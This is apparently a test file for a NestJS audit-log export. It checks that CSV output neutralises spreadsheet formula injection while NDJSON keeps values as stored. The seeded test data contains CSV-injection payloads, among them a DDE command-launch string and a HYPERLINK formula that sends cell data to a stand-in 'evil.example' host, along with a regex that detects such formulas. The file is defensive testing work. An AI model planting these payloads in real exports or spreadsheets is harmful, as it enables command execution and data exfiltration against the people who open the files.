import { type INestApplication } from '@nestjs/common';
import { type Server } from 'node:http';
import request from 'supertest';
import { AuditQueryError, AuditQueryService } from '../src/audit';
import { parseCsv } from './support/csv';
import { TestPostgres } from './support/postgres';
import { orderedId, seed, startQueryApp } from './support/query-app';

const FORMULA = /^[\s\u0000-\u001f\u007f]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

// Stored values an attacker chose, or that no check stopped, read back by an auditor: formulas
// in any column of a CSV export, and timestamps PostgreSQL holds but ISO 8601 years 1 to 9999 do
// not (infinity, year 10000 and later, years BC).
describe('reading hostile values', () => {
  let db: TestPostgres;
  let app: INestApplication<Server>;
  const get = (path: string) => request(app.getHttpServer()).get(path).set('x-auditor', 'yes');

  beforeAll(async () => {
    db = await TestPostgres.start();
    app = await startQueryApp(db.url());
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await db?.stop();
  });

  it('neutralises formulas in every CSV column, the JSON ones too, and leaves NDJSON as stored', async () => {
    const hostile = {
      id: orderedId(100),
      occurredAt: '2026-11-10T00:00:00Z',
      action: '@SUM(1+1)*cmd|" /C calc"!A0',
      entityType: '+cmd',
      entityId: '-2+3',
      userId: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      userAgent: 'Mozilla/5.0;=cmd|x\r\n\t=1',
      changes: -5,
    };
    await seed(db, [hostile, { id: orderedId(101), occurredAt: '2026-11-10T00:00:01Z', userId: '\t=1', changes: { note: 'a;=1' } }]);
    await db.query(
      `INSERT INTO audit_log (id, occurred_at, action, outcome, ip, request_id, metadata)
       VALUES ($1, '2026-11-10T00:00:02Z', '=1', 'success', '-1', ' =1', '-0.5')`,
      [orderedId(102)],
    );

    const csv = await get('/audit/export?format=csv&from=2026-11-10&to=2026-11-11').expect(200);
    const [header, ...records] = parseCsv(csv.text);
    expect(records).toHaveLength(3);
    for (const record of records) {
      for (const cell of record) {
        for (const part of cell.split(/[\r\n\t;]/)) expect(part).not.toMatch(FORMULA);
      }
    }
    const first = Object.fromEntries(header.map((name, i) => [name, records[0][i]]));
    expect(first).toMatchObject({
      action: `'@SUM(1+1)*cmd|" /C calc"!A0`,
      entityType: "'+cmd",
      entityId: "'-2+3",
      userId: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      userAgent: "Mozilla/5.0;'=cmd|x\r\n\t'=1",
      changes: "'-5",
    });
    const third = Object.fromEntries(header.map((name, i) => [name, records[2][i]]));
    expect(third).toMatchObject({ action: "'=1", ip: "'-1", requestId: "' =1", metadata: "'-0.5" });
    expect(records[1][header.indexOf('changes')]).toBe(`{"note": "a;'=1"}`);

    const ndjson = await get('/audit/export?from=2026-11-10&to=2026-11-11').expect(200);
    const rows = ndjson.text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows[0]).toMatchObject({ ...hostile, occurredAt: '2026-11-10T00:00:00.000Z' });
    expect(rows[1]).toMatchObject({ userId: '\t=1', changes: { note: 'a;=1' } });
  });
});
